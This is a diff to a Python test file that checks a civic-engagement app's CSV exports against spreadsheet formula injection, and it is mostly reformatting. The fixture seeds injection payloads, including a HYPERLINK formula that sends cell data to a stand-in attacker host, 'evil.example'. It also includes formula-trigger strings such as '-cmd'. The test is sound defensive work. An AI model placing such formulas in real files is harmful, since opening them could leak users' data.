@@ -17,7 +17,7 @@ from coproduce.conversations.actions import do_cast_vote
 from coproduce.conversations.models import Statement
 from coproduce.engagements.models import Engagement
 
-DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1", "-cmd", "@SUM(A1:A9)", "\tx", "\rx"]
+DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-cmd", "@SUM(A1:A9)", "\tx", "\rx"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 
@@ -31,15 +31,19 @@ def injected_world(api_world):
         Statement.objects.filter(pk=statement.pk).update(text=text)
     conversation = statements[0].conversation
     for n, text in enumerate(DANGEROUS[3:]):
-        extra = Statement.objects.create(conversation=conversation, text=f"placeholder {n}",
-                                         origin=Statement.Origin.SEED, status=Statement.Status.PUBLISHED)
+        extra = Statement.objects.create(
+            conversation=conversation,
+            text=f"placeholder {n}",
+            origin=Statement.Origin.SEED,
+            status=Statement.Status.PUBLISHED,
+        )
         Statement.objects.filter(pk=extra.pk).update(text=text)
         for person in world.public_people:
             do_cast_vote(person, extra, -1)
     perspective = world.public.perspectives.first()  # five of the six voters chose it: published
     perspective.name_en = "+Patients"
     perspective.save()
-    Engagement.objects.filter(pk=world.public.pk).update(title_en="=HYPERLINK(\"x\")", question_en="-What?")
+    Engagement.objects.filter(pk=world.public.pk).update(title_en='=HYPERLINK("x")', question_en="-What?")
     return world
 
 
@@ -57,8 +61,16 @@ def all_csv_cells(client, slug: str) -> dict[str, list[list[str]]]:
 
 def test_no_csv_of_the_open_data_starts_a_cell_with_a_formula_character(injected_world, client):
     files = all_csv_cells(client, injected_world.public.slug)
-    assert set(files) == {"statements.csv", "votes.csv", "participants.csv", "perspectives.csv", "polis/comments.csv",
-                          "polis/votes.csv", "polis/participants-votes.csv", "polis/summary.csv"}
+    assert set(files) == {
+        "statements.csv",
+        "votes.csv",
+        "participants.csv",
+        "perspectives.csv",
+        "polis/comments.csv",
+        "polis/votes.csv",
+        "polis/participants-votes.csv",
+        "polis/summary.csv",
+    }
     for name, rows in files.items():
         for row in rows:
             for cell in row:
@@ -71,7 +83,7 @@ def test_no_csv_of_the_open_data_starts_a_cell_with_a_formula_character(injected
     assert "'+Patients" in {row[1] for row in files["perspectives.csv"][1:]}
     assert "'+Patients" in {row[1] for row in files["participants.csv"][1:]}
     summary = dict(files["polis/summary.csv"])
-    assert (summary["topic"], summary["conversation-description"]) == ("'=HYPERLINK(\"x\")", "'-What?")
+    assert (summary["topic"], summary["conversation-description"]) == ('\'=HYPERLINK("x")', "'-What?")
 
 
 def test_numbers_stay_numbers(injected_world, client):
@@ -91,12 +103,28 @@ def test_the_polis_files_read_back_with_the_original_words(injected_world, clien
     assert set(DANGEROUS) <= texts
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-cmd", "'-cmd"), ("@SUM", "'@SUM"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("'=x", "''=x"),  # already quoted: quoted once more, so that reading back removes exactly one quote
-    ("''-x", "'''-x"), ("'tis", "'tis"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
-    (-1, -1), (0, 0), (1.5, 1.5), (None, None), (True, True),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+2", "'=1+2"),
+        ("+1", "'+1"),
+        ("-cmd", "'-cmd"),
+        ("@SUM", "'@SUM"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),  # already quoted: quoted once more, so that reading back removes exactly one quote
+        ("''-x", "'''-x"),
+        ("'tis", "'tis"),
+        ("plain", "plain"),
+        ("", ""),
+        ("a=b", "a=b"),
+        (-1, -1),
+        (0, 0),
+        (1.5, 1.5),
+        (None, None),
+        (True, True),
+    ],
+)
 def test_the_helper_neutralises_only_text(value, expected):
     from coproduce.commonground.polis import csv_text_cell, restore_text_cell
     from coproduce.core.csvsafe import safe_cell, safe_row
